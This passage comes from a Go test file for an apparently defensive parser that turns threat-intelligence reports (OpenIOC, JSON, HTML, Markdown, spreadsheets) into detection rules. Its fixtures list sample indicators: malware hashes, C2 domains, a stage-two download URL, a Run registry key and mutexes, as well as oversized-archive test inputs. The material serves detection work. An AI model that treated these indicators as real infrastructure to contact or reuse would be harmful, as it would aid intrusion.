		"file: md5=4a3d5ae3fd1e4bbf1e2d5a4b3c6f7e81, filename=kestrelsvc.exe, size-in-bytes=73216",
		"sha256 b7e1c0a7d54b6c9b5b1b7a2e3c3f7f7f9f1d1c3b2a5e6d7c8b9a0f1e2d3c4b5a",
		"domain sync.kestrel-update.com",
		"ip-dst 203.0.113.77", // a DNS term holding an address is typed by its shape
		"ip-dst 45.95.11.90",
		"url http://sync.kestrel-update.com/kestrel/stage2.bin",
		`regkey HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\KestrelSvc`,
		`mutex Global\KestrelMtx_0x51`,
		"text /kestrel/beacon.php !part of a value (Network/URI contains): rules match whole values",
		"text kestrel !part of a value (FileItem/FileName contains): rules match whole values",
		"text true !a negated OpenIOC term (FileItem/PEInfo/DigitalSignature/SignatureExists is): rules match what is there",
		"text KestrelSvc !an OpenIOC term rulegen writes no rule for (ServiceItem/name)",
	)
	if got := stated(r); !slices.ContainsFunc(got, func(s string) bool {
		return strings.HasSuffix(s, "!an OpenIOC regular expression (FileItem/FullPath matches): rulegen writes no rule from a pattern")
	}) {
		t.Errorf("the pattern is not listed with its reason:\n  %s", strings.Join(got, "\n  "))
	}

	data, err := os.ReadFile(filepath.Join(dir, "kestrel-installer.xml"))
	if err != nil {
		t.Fatal(err)
	}
	if f := parse.SniffFile("kestrel-installer.xml", data); f != parse.FormatOpenIOC {
		t.Fatalf("OpenIOC 1.1 named .xml sniffed as %s", f)
	}
	r = readOne(t, filepath.Join(dir, "kestrel-installer.xml"), parse.Options{})
	if r.Title != "Kestrel installer" || r.Date != "2024-08-20" {
		t.Errorf("title %q, date %q", r.Title, r.Date)
	}
	wantStated(t, r, `file: sha1=2fd4e1c67a2d28fced849ee1bb76e7391b93eb12, fullpath=C:\ProgramData\Kestrel\kinstall.exe`)
	precise(t, data, r)

	loose := `<ioc xmlns="http://schemas.mandiant.com/2010/ioc"><short_description>Loose</short_description><authored_date>2024-08-20</authored_date>` +
		`<IndicatorItem condition="is"><Context search="DnsEntryItem/Host"/><Content>loose.kestrel-update.com</Content></IndicatorItem></ioc>`
	if r, err := parse.Bytes("loose.ioc", []byte(loose)); err != nil {
		t.Error(err)
	} else {
		wantStated(t, r, "domain loose.kestrel-update.com") // an item outside any Indicator is not dropped
	}

	undated := `<ioc xmlns="http://schemas.mandiant.com/2010/ioc" last-modified="2024-08-23T10:00:00"><short_description>Undated</short_description>` +
		`<definition><Indicator operator="OR"><IndicatorItem condition="is"><Context search="DnsEntryItem/Host"/><Content>undated.kestrel-update.com</Content></IndicatorItem></Indicator></definition></ioc>`
	if r, err := parse.Bytes("undated.ioc", []byte(undated)); err != nil || r.Date != "2024-08-23" {
		t.Errorf("without an authored date, the last change dates it: %v, %v", r, err)
	}

	if _, err := parse.Bytes("broken.ioc", append(data[:len(data)/2:len(data)/2], "<<"...)); err == nil || !strings.Contains(err.Error(), "broken.ioc:") {
		t.Errorf("a broken OpenIOC document: %v, want an error naming the file and line", err)
	}
}

func FuzzOpenIOC(f *testing.F) {
	fuzzVendor(f, "fuzz.ioc", "variants/2024-08-20-openioc/kestrel-backdoor.ioc", "variants/2024-08-20-openioc/kestrel-installer.xml")
}

// A vendor's JSON that is neither MISP nor STIX is read by its keys: {"type", "value"} objects
// as a CSV's rows, an object of a hash, name and size as one file, lists typed by their key
// (c2, domains), prose listed as free text; the top object's title and date are the report's.
// JSON that states no indicator (a package.json) is no report.
func TestVendorJSON(t *testing.T) {
	path := vendorPath(t, "variants", "2024-08-21-json-iocs", "iocs.json")
	r := readOne(t, path, parse.Options{})
	wantHeading(t, r, parse.FormatJSON, "Harrier loader campaign", "2024-08-21")
	wantStated(t, r,
		"file: sha256=0f3a9c1b7d2e4f6a8b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a",
		"file: md5=5d41402abc4b2a76b9719d911017c592",
		"domain-ip: domain=harrier-cdn.net",
		"domain-ip: port=8443, ip=45.95.11.91", // keys in sorted order
		"domain-ip: url=https://harrier-cdn.net/api/v2/check",
		"file: filename=harrier.dll, sha256=1e2d3c4b5a69788796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3, size-in-bytes=204800",
		"domain-ip: domain=harrier-relay.org",
		"domain-ip: ip=185.225.74.12",
		"domain-ip: domain=cdn-harrier.com",
	)
	for _, s := range stated(r) {
		if strings.Contains(s, "rulegen tests") && !strings.HasPrefix(s, "text ") {
			t.Errorf("an author's name became a value: %s", s)
		}
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	precise(t, data, r)
	// A plain link no key calls an indicator is a reference, not a URL to detect.
	home, err := parse.Bytes("2024-01-02-tool.json", []byte(`{"title": "T", "homepage": "https://github.com/example/tool", "c2": ["evil-c2[.]com"]}`))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, home, "link https://github.com/example/tool", "domain-ip: domain=evil-c2.com")
	for _, s := range stated(home) {
		if strings.HasPrefix(s, "url ") {
			t.Errorf("a homepage became %s", s)
		}
	}
	_, err = parse.Bytes("package.json", []byte(`{"name": "left-pad", "version": "1.3.0", "scripts": {"test": "node test.js"}}`))
	if !errors.Is(err, parse.ErrNoIndicators) {
		t.Errorf("a package.json: %v, want a document without indicators", err)
	}
}

// JSON Lines (.jsonl, .ndjson): each line is read as a list's item is, at its line; a line
// that is not JSON is an error naming it.
func TestJSONLines(t *testing.T) {
	data := "{\"indicator\": \"" + strings.Repeat("3f", 32) + "\", \"type\": \"sha256\", \"comment\": \"dropper\"}\n\n" +
		"{\"indicator\": \"kite-c2[.]net\", \"type\": \"domain\"}\n"
	r, err := parse.Bytes("2024-03-01-kite.ndjson", []byte(data))
	if err != nil {
		t.Fatal(err)
	}
	wantHeading(t, r, parse.FormatJSON, "kite", "2024-03-01")
	wantStated(t, r, "file: sha256="+strings.Repeat("3f", 32), "domain-ip: domain=kite-c2.net")
	if len(r.Objects) != 2 || r.Objects[0].Attributes[0].Pos.Line != 1 || r.Objects[1].Pos.Line != 3 || r.Objects[1].Attributes[0].Pos.Line != 3 {
		t.Errorf("not at their lines: %+v", r.Objects)
	}
	_, err = parse.Bytes("x.jsonl", []byte("{\"type\": \"domain\", \"value\": \"a-c2.net\"}\n{not json\n"))
	if err == nil || !strings.Contains(err.Error(), "x.jsonl:2") {
		t.Errorf("a line that is not JSON: %v", err)
	}
}

func FuzzJSONLines(f *testing.F) {
	f.Add([]byte("{\"indicator\": \"kite-c2[.]net\", \"type\": \"domain\"}\n{\"sha256\": \"" + strings.Repeat("3f", 32) + "\", \"name\": \"a.exe\"}\n"))
	fuzzVendor(f, "fuzz.ndjson")
}

func FuzzVendorJSON(f *testing.F) {
	fuzzVendor(f, "fuzz-vendor.json", "variants/2024-08-21-json-iocs/iocs.json")
}

// An HTML page is a document like any other: the Markdown publication written out as a web
// page (headings, a table with a head, lists of code, a <pre> block) states the same values.
// What the page's site adds around it states none: its scripts are passed over, and its
// sidebar's and footer's lines that mention values are listed as outside the publication.
func TestHTMLPage(t *testing.T) {
	path := filepath.Join(golden.RepoRoot(t), "testdata", "syntaxes", "operation-example.html")
	r := readOne(t, path, parse.Options{})
	wantHeading(t, r, parse.FormatHTML, "Operation Example: indicators of compromise", "2024-06-03")
	md := readOne(t, vendorPath(t, "variants", "2024-06-03-markdown-tables.md"), parse.Options{})
	var got, outside []string
	for _, s := range stated(r) {
		if strings.HasSuffix(s, "!"+outsideReason) {
			outside = append(outside, s)
		} else {
			got = append(got, s)
		}
	}
	if len(outside) != 3 || !strings.Contains(outside[0], "soc@example-research.org") || !strings.Contains(outside[1], "other-c2[.]top") || !strings.Contains(outside[2], "198.51.100.7") {
		t.Errorf("outside the publication: %q", outside)
	}
	if want := stated(md); !slices.Equal(got, want) {
		t.Errorf("the page states\n  %s\nthe same publication in Markdown\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	precise(t, data, r)
	// Each value is placed at its line of the page.
	lines := strings.Split(string(data), "\n")
	for _, a := range r.Attributes {
		if a.Type == "link" || a.Unusable != "" {
			continue
		}
		if l := a.Pos.Line; l < 1 || l > len(lines) || !strings.Contains(strings.ToLower(defang.Refang(lines[l-1])), strings.ToLower(a.Value)) {
			t.Errorf("%s %q at line %d, which does not hold it", a.Type, a.Value, a.Pos.Line)
		}
	}
	for name, page := range map[string]string{
		"advisory":   "<!DOCTYPE html>\n<html><body><h1>X</h1><p>SHA256: " + strings.Repeat("ab", 32) + "</p></body></html>",
		"saved.txt":  "  <!-- saved from url=(0014)about:internet -->\n<html><body><p>evil[.]com</p></body></html>",
		"page.htm":   "<p>hxxp://evil[.]com/a?b=1&amp;c=2</p>",
		"notes.md":   "# Notes\n\n<b>not a page</b>\n",
		"feed.xml":   `<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>`,
		"page.xhtml": `<?xml version="1.0" encoding="utf-8"?>` + "\n" + `<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>`,
	} {
		got := parse.SniffFile(name, []byte(page))
		switch name {
		case "notes.md":
			if got != parse.FormatDocument {
				t.Errorf("%s: %q, want %q", name, got, parse.FormatDocument)
			}
		case "feed.xml":
			if got == parse.FormatHTML {
				t.Errorf("%s: RSS read as a page", name)
			}
		default:
			if got != parse.FormatHTML {
				t.Errorf("%s: %q, want %q", name, got, parse.FormatHTML)
			}
		}
	}
	// Entities are read as what they stand for; a page without indicators is no report.
	q, err := parse.Bytes("page.htm", []byte("<h1>Q</h1><p>Date: 2024-01-02</p><h2>URLs</h2><ul><li>hxxp://evil[.]com/a?b=1&amp;c=2</li></ul>"))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, q, "url http://evil.com/a?b=1&c=2")
	// A page that is not UTF-8 is read in the encoding it declares.
	latin, err := parse.Bytes("page.html", []byte("<html><head><meta charset=\"windows-1252\"></head><body><h1>Op\xe9ration \x93Kestrel\x94</h1>"+
		"<p>Date: 2024-01-02</p><p>C2: kestrel[.]example-c2.com</p></body></html>"))
	if err != nil {
		t.Fatal(err)
	}
	wantHeading(t, latin, parse.FormatHTML, "Opération “Kestrel”", "2024-01-02")
	wantStated(t, latin, "domain kestrel.example-c2.com")
	// Inside the post, an aside or a footer is the post's; a form around the whole page (as
	// ASP.NET writes them) is no chrome.
	post, err := parse.Bytes("post.html", []byte(`<html><body><nav>evil-menu[.]com</nav><article><h1>P</h1><p>Date: 2024-01-02</p>
<aside><p>C2: side-c2[.]com</p></aside><footer>Also seen: foot-c2[.]com</footer></article><footer>site-foot[.]com</footer></body></html>`))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, post, "domain side-c2.com", "domain foot-c2.com", "domain evil-menu.com !"+outsideReason, "domain site-foot.com !"+outsideReason)
	aspx, err := parse.Bytes("post.aspx.html", []byte(`<html><body><form id="aspnetForm"><h1>Q</h1><p>Date: 2024-01-02</p><p>C2: form-c2[.]com</p></form></body></html>`))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, aspx, "domain form-c2.com")
	if _, err := parse.Bytes("about.html", []byte("<html><body><h1>About us</h1><p>We write software.</p></body></html>")); !errors.Is(err, parse.ErrNoIndicators) {
		t.Errorf("a page without indicators: %v, want a document without indicators", err)
	}
}

// outsideReason is why a web page's chrome states no value.
const outsideReason = "the web page's navigation, sidebar or footer, not the publication"

func FuzzHTML(f *testing.F) {
	fuzzVendor(f, "fuzz-page.html", "variants/2024-06-09-html-page.html")
}

// A line written all in bold is a heading by its looks (posts write **Mutexes** where a heading
// would do), in Markdown as in HTML; a value in bold stays a value.
func TestBoldLinesAreHeadings(t *testing.T) {
	for name, doc := range map[string]string{
		"post.md":   "# T\n\nDate: 2024-01-02\n\n**Mutexes**\n\nGlobal\\KFMutex1\n\n**Network:**\n\nevil[.]com\n\n**evil2[.]com**\n",
		"post.adoc": "= T\n:revdate: 2024-01-02\n\n*Mutexes*\n\nGlobal\\KFMutex1\n\n*Network:*\n\nevil[.]com\n\n*evil2[.]com*\n",
		"post.html": "<h1>T</h1><p>Date: 2024-01-02</p><p><strong>Mutexes</strong></p><p>Global\\KFMutex1</p>" +
			"<p><b>Network:</b></p><p>evil[.]com</p><p><strong>evil2[.]com</strong></p>",
	} {
		r, err := parse.Bytes(name, []byte(doc))
		if err != nil {
			t.Fatal(err)
		}
		wantStated(t, r, `mutex Global\KFMutex1`, "domain evil.com", "domain evil2.com")
	}
	// A bold label with its colon inside the marks labels its value, and a file's labelled
	// lines stay one file.
	r, err := parse.Bytes("post.md", []byte("# T\n\nDate: 2024-01-02\n\n**SHA256:** "+strings.Repeat("2c", 32)+"\n**File name:** owl.exe\n"))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, r, "file: sha256="+strings.Repeat("2c", 32)+", filename=owl.exe")
}

// Markdown may embed HTML blocks (GitHub READMEs write tables and lists in HTML): they are read
// as a page's blocks are, under the Markdown headings around them, at their lines.
func TestMarkdownEmbedsHTML(t *testing.T) {
	doc := "# Heron backdoor\n\nDate: 2024-04-02\n\n<table>\n<tr><th>SHA256</th><th>Filename</th></tr>\n\n" +
		"<tr><td>" + strings.Repeat("9f", 32) + "</td><td>heron.dll</td></tr>\n</table>\n\n## Mutexes\n\n<ul>\n<li>Global\\HeronMtx</li>\n</ul>\n\n" +
		"<https://example.org/heron> is an autolink, not HTML.\n"
	r, err := parse.Bytes("README.md", []byte(doc))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, r, "file: sha256="+strings.Repeat("9f", 32)+", filename=heron.dll", `mutex Global\HeronMtx`, "link https://example.org/heron")
	lines := strings.Split(doc, "\n")
	for _, a := range r.Attributes {
		if a.Type == "mutex" && !strings.Contains(lines[a.Pos.Line-1], a.Value) {
			t.Errorf("%s at line %d: %q", a.Value, a.Pos.Line, lines[a.Pos.Line-1])
		}
	}
	if len(r.Objects) != 1 || r.Objects[0].Pos.Line != 8 {
		t.Errorf("the sample's row is line 8: %+v", r.Objects)
	}
}

// xlsx builds a spreadsheet: each sheet's rows of cells, written as a spreadsheet program
// writes them (shared strings, inline strings, numbers, cell references that skip columns).
func xlsx(t testing.TB, sheets [][2]string, shared []string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	add := func(name, body string) {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(body))
	}
	var book, rels strings.Builder
	book.WriteString(`<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>`)
	rels.WriteString(`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for i, sh := range sheets {
		fmt.Fprintf(&book, `<sheet name="%s" sheetId="%d" r:id="rId%d"/>`, sh[0], i+1, i+1)
		fmt.Fprintf(&rels, `<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet%d.xml"/>`, i+1, i+1)
		add(fmt.Sprintf("xl/worksheets/sheet%d.xml", i+1), `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+sh[1]+`</sheetData></worksheet>`)
	}
	add("xl/workbook.xml", book.String()+`</sheets></workbook>`)
	add("xl/_rels/workbook.xml.rels", rels.String()+`</Relationships>`)
	var sst strings.Builder
	sst.WriteString(`<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`)
	for i, s := range shared {
		if i == 1 { // rich text: runs of one string
			fmt.Fprintf(&sst, `<si><r><t>%s</t></r><r><rPr><b/></rPr><t>%s</t></r></si>`, s[:2], s[2:])
			continue
		}
		fmt.Fprintf(&sst, `<si><t>%s</t></si>`, s)
	}
	add("xl/sharedStrings.xml", sst.String()+`</sst>`)
	add("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`)
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// A spreadsheet's sheets are tables read as CSV files are: a header naming columns (a title
// above it passed over), a row one object, each value at its row and sheet; a sheet of notes
// states nothing; a broken or
// oversized archive is an error naming the file, never unpacked into memory.
func TestSpreadsheet(t *testing.T) {
	hash := strings.Repeat("7c", 32)
	data := xlsx(t, [][2]string{
		{"Samples", `<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c><c r="C1" t="inlineStr"><is><t>Size</t></is></c></row>` +
			`<row r="2"><c r="A2" t="inlineStr"><is><t>` + hash + `</t></is></c><c r="B2" t="s"><v>2</v></c><c r="C2"><v>204800</v></c></row>` +
			`<row r="4"><c r="A4" t="inlineStr"><is><t>` + strings.Repeat("8d", 32) + `</t></is></c><c r="C4"><v>1024</v></c></row>`},
		{"Network", `<row r="1"><c r="A1" t="inlineStr"><is><t>Prepared by Example Labs</t></is></c></row>` +
			`<row r="3"><c r="A3" t="inlineStr"><is><t>Indicator</t></is></c><c r="B3" t="inlineStr"><is><t>Type</t></is></c></row>` +
			`<row r="4"><c r="A4" t="inlineStr"><is><t>kite-c2[.]com</t></is></c><c r="B4" t="inlineStr"><is><t>domain</t></is></c></row>`},
		{"Notes", `<row r="1"><c r="A1" t="inlineStr"><is><t>Written for rulegen's tests on 12 March 2024.</t></is></c></row>`},
	}, []string{"SHA256", "File name", "kite.dll"})
	r, err := parse.Bytes("kite-iocs.xlsx", data)
	if err != nil {
		t.Fatal(err)
	}
	wantHeading(t, r, parse.FormatXLSX, "kite iocs", "2024-03-12")
	wantStated(t, r, "file: sha256="+hash+", filename=kite.dll, size-in-bytes=204800", "file: sha256="+strings.Repeat("8d", 32)+", size-in-bytes=1024",
		"domain-ip: domain=kite-c2.com")
	for _, o := range r.Objects {
		if p := o.Attributes[0].Pos; o.Name == "domain-ip" && (p.Line != 4 || p.Path != "Network") || o.Attributes[0].Value == hash && (p.Line != 2 || p.Path != "Samples") {
			t.Errorf("%s at %s", o.Attributes[0].Value, p)
		}
	}
	if got := parse.SniffFile("kite-iocs", data); got != parse.FormatXLSX {
		t.Errorf("a spreadsheet without an extension: %q", got)
	}
	for name, broken := range map[string]struct {
		data []byte
		want string
	}{
		"cut.xlsx":  {data[:len(data)/2], "not a spreadsheet"},
		"bomb.xlsx": {xlsx(t, [][2]string{{"S", `<row r="1"><c r="A1"><v>` + strings.Repeat("0", 65<<20) + `</v></c></row>`}}, nil), "MiB uncompressed"},
		"deep.xlsx": {xlsx(t, [][2]string{{"S", `<row r="1"><c r="ZZZZ1"><v>1</v></c></row>`}}, nil), "past column"},
		// Rows of one cell at the last column would be 16,384 cells each.
		"wide.xlsx": {xlsx(t, [][2]string{{"S", strings.Repeat(`<row><c r="XFD1" t="inlineStr"><is><t>wide-c2[.]com</t></is></c></row>`, 3)}}, nil), "past column"},
	} {
		_, err := parse.Bytes(name, broken.data)
		if !errors.Is(err, parse.ErrInput) || !strings.Contains(err.Error(), name) || !strings.Contains(err.Error(), broken.want) {
			t.Errorf("%s: %v, want an input error naming it: %s", name, err, broken.want)
		}
	}
}

// Any bytes named .xlsx give a report or an input error naming the file, never a panic: a
// spreadsheet is an untrusted archive.
func FuzzXLSX(f *testing.F) {
	f.Add(xlsx(f, [][2]string{{"S", `<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>evil[.]com</t></is></c></row>`}}, []string{"Domain", "rich text"}))
	f.Fuzz(func(t *testing.T, data []byte) {
		err := parse.Each("fuzz.xlsx", data, parse.Options{Date: "2024-01-01"}, func(*report.Report) error { return nil })
		var inputErr *parse.InputError
		if err != nil && !errors.As(err, &inputErr) {
			t.Fatalf("not an input error: %v", err)
		}
	})
}

// A heading that names what a table's column holds beside its values (IOC, Notes,
// Description, Type) says nothing of the values under it: they are read by their shapes, never
// dropped without a word.
func TestHeadingsNamingColumnsDropNothing(t *testing.T) {
	for name, doc := range map[string]string{
		"a.md": "# T\n\nDate: 2024-01-02\n\n## IOC\n\n- a-c2[.]com\n\n## Indicators\n\n- b-c2[.]com\n\n## Notes\n\n- c-c2[.]com\n\n## Description\n\nd-c2[.]com\n",
		"b.md": "# T\n\nDate: 2024-01-02\n\n**IOC**\n\n- a-c2[.]com\n\n**Notes:**\n\n- b-c2[.]com\n\n**Type**\n\nc-c2[.]com\n\n**Description**\n\nd-c2[.]com\n",
	} {
		r, err := parse.Bytes(name, []byte(doc))
		if err != nil {
			t.Fatal(err)
		}
		wantStated(t, r, "domain a-c2.com", "domain b-c2.com", "domain c-c2.com", "domain d-c2.com")
	}
}

// A "File" or "Sample" column holds a file by its name or its hash, typed by shape; a note in
// parentheses after a hash is no file name.
func TestFileColumnsAndHashNotes(t *testing.T) {
	h := strings.Repeat("2c", 32)
	r, err := parse.Bytes("x.md", []byte("# T\n\nDate: 2024-01-02\n\n## Malware samples\n\n| File | SHA256 |\n|---|---|\n| k.exe | "+h+" |\n\n"+
		"| Sample | Description |\n|---|---|\n| "+strings.Repeat("3d", 20)+" | the loader |\n\n## Files\n\n- "+strings.Repeat("4e", 20)+" (loader)\n"))
	if err != nil {
		t.Fatal(err)
	}
	wantStated(t, r, "file: filename=k.exe, sha256="+h, "file: sha1="+strings.Repeat("3d", 20), "sha1 "+strings.Repeat("4e", 20))
	for _, s := range stated(r) {
		if strings.Contains(s, "(loader)") {
			t.Errorf("a note became a name: %s", s)
		}
	}
}
